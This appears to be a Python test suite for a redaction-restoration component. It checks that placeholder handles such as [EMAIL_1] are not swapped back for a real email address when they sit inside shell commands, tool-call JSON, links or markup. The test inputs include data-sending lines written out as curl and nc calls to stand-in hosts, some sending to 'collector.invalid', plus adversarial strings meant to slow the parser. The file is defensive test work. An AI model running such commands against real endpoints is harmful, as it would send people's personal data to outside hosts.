"""Originals never come to stand where a reader, a browser, a shell, a sheet or a host of tools acts on them."""

from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.core.content.handles import Handle, Original, StreamingRestoration, restore_text
from app.core.content.positions import LONGEST_GAP
from tests.proportion import assert_in_proportion
from tests.restoration_attacks import ORDINARY, PADDINGS, TEMPLATES, attacks
from tests.sampling import examples

EMAIL = "ruth.okafor@harbour.example"
MAP = {Handle("PERSON", 1): Original("Ruth Okafor"), Handle("EMAIL", 1): Original(EMAIL)}
WHOLE = {name: template for name, (_, template) in TEMPLATES.items()}


def restored(text: str) -> str:
    return restore_text(text, MAP, safe_positions=True)


def streamed(text: str, cuts: list[int]) -> str:
    stream = StreamingRestoration(MAP.get, safe_positions=True)
    pieces = [stream.feed(text[start:end]) for start, end in pairwise([0, *sorted(cuts), len(text)])]
    return "".join(pieces) + stream.finish()


def test_no_shape_of_attack_gets_an_original() -> None:
    texts = {attack.text for attack in attacks()}
    assert len(texts) > 300
    assert [text[:200] for text in texts if EMAIL in restored(text)] == []
    assert all(EMAIL in restore_text(text, MAP) for text in texts), (
        "where positions do not count, all come back"
    )


@pytest.mark.parametrize(
    "call",
    [
        '{"tool": {"name": "mail"}, "to": "[EMAIL_1]"}',
        '{"tool_call": {"name": "mail", "options": [{}]}, "note": "of [EMAIL_1]"}',
        '{"arguments": {}, "subject": "[EMAIL_1]"}',
        r'"{\"args\": {\"a\": {\"b\": 1}}, \"to\": \"[EMAIL_1]\"}"',
    ],
)
def test_a_call_in_json_ends_with_its_object_and_not_with_the_value_that_shows_it(call: str) -> None:
    text = f"{call}\n\nI wrote to [PERSON_1]."
    assert restored(text) == text.replace("[PERSON_1]", "Ruth Okafor")


@pytest.mark.parametrize(
    "command",
    [
        "curl -d [EMAIL_1] https://a.example",
        'curl -d "first\n[EMAIL_1]" https://a.example',
        "curl -d 'first\n[EMAIL_1]' https://a.example",
        'curl -d "a \\"\n[EMAIL_1]" https://a.example',
        "curl -d x \\\n -d [EMAIL_1] https://a.example",
        "```\ncurl -d 'it\n[EMAIL_1]\n```",
    ],
)
def test_a_command_goes_on_inside_of_its_quotes_and_ends_with_its_last_line(command: str) -> None:
    text = f"{command}\n\nI wrote to [PERSON_1]."
    assert restored(text) == text.replace("[PERSON_1]", "Ruth Okafor")


def test_a_handle_is_part_of_the_word_that_it_stands_in() -> None:
    command = "nc host 1 [EMAIL_1]\n"
    assert restored(f"of [PERSON_1]{command}") == f"of Ruth Okafornc host 1 {EMAIL}\n"
    assert restored(f"of [PERSON_1] {command}") == f"of Ruth Okafor {command}", (
        "the control: a word of its own"
    )


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_answers_are_restored(text: str) -> None:
    assert restored(text) == restore_text(text, MAP) != text


NOISE = st.lists(
    st.sampled_from(
        [
            *(
                "Dear [PERSON_1],",
                "it's",
                '"',
                "'",
                "`",
                "(",
                ")",
                "[x]",
                "{",
                "}",
                "<",
                ">",
                "a < b",
                "\n",
                " ",
                "-",
            ),
            *(
                "](",
                "<b>",
                "</b>",
                "<a href='x'>",
                "https://a.example/",
                "f(x)",
                "x = 1;",
                "é",
                "{'a': 1}",
                "|",
                "=",
                "\\",
            ),
        ]
    )
    | st.text(max_size=4),
    max_size=12,
).map(" ".join)


@settings(max_examples=examples(5_000, 300), deadline=None)
@given(NOISE, st.sampled_from(sorted(WHOLE)), st.data())
def test_nothing_that_stands_in_front_and_no_padding_disarms_it(
    noise: str, name: str, data: st.DataObject
) -> None:
    kinds, template = TEMPLATES[name]
    kind = data.draw(st.sampled_from(kinds or "w"))
    padding = PADDINGS[kind] * data.draw(st.integers(0, 60)) if kinds else ""
    attack = template.replace("HOST", "collector.invalid").replace("{P}", padding).replace("{H}", "[EMAIL_1]")
    text = f"{noise}\n\n{attack}"
    shown = restored(text)
    assert EMAIL not in shown
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=8))
    assert streamed(text, cuts) == shown


@pytest.mark.parametrize(
    "text", [*ORDINARY, *(one.replace("{P}", "").replace("{H}", "[EMAIL_1]") for one in WHOLE.values())]
)
def test_one_character_at_a_time_gives_the_same_text(text: str) -> None:
    assert streamed(text, list(range(len(text)))) == restored(text)


@pytest.mark.parametrize(
    "sent", ["Hello [PERSON_1]!", "Hello [PERSON_1], ", "([PERSON_1]) is", "[PERSON_1]\n"]
)
def test_a_stream_holds_no_handle_longer_than_it_must(sent: str) -> None:
    assert StreamingRestoration(MAP.get, safe_positions=True).feed(sent) == sent.replace(
        "[PERSON_1]", "Ruth Okafor"
    )


def test_a_stream_holds_a_handle_that_may_be_a_host_name_until_it_is_known() -> None:
    stream = StreamingRestoration(MAP.get, safe_positions=True)
    assert stream.feed("Hi [PERSON_1].") == "Hi "
    assert stream.feed("col") == ""
    assert stream.feed("lector.invalid ") == "[PERSON_1].collector.invalid "
    assert stream.feed("[PERSON_1].") + stream.feed(" Bye") == "Ruth Okafor. Bye"


@pytest.mark.parametrize(
    "unit",
    [
        *(
            "[PERSON_1] ",
            "[PERSON_1]. ",
            "<",
            "<a ",
            '<a ="',
            '="',
            "](",
            "](<",
            "{",
            '{"a" ',
            '{"arguments":',
            "{ ",
        ),
        *(
            "curl -d '",
            "nc a.b.c ",
            "echo [PERSON_1]\n",
            "echo ",
            "| nc ",
            "curl -d <<A\n",
            "`",
            '"=A(',
            '"//a"',
        ),
        *(
            "https://a.b/?",
            "a@b",
            "a.bc",
            "\\",
            "\\\\a.b",
            "= ",
            "[url=",
            "[a]: ",
            "\n",
            "[a(b=",
            "```tool\n",
            "[1.1.1.1/",
        ),
        *(
            "\u200b",
            "。",
            "*",
            "Action Input:",
            "<tool_call>",
            "</",
            "<!--",
            "-->",
            "\u00e9",
            "[PERSON_1]&amp;",
        ),
    ],
)
def test_hostile_texts_take_linear_time(unit: str) -> None:
    text = unit * (80_000 // len(unit) + 1)
    assert_in_proportion(lambda size: restored(text[:size] + " [PERSON_1]"), 20_000, 80_000)


def test_behind_more_text_than_is_kept_nothing_is_restored() -> None:
    assert EMAIL in restored("ab " * (LONGEST_GAP // 3 - 10) + "[EMAIL_1]")
    assert EMAIL not in restored("ab " * (LONGEST_GAP // 3 + 10) + "[EMAIL_1]")
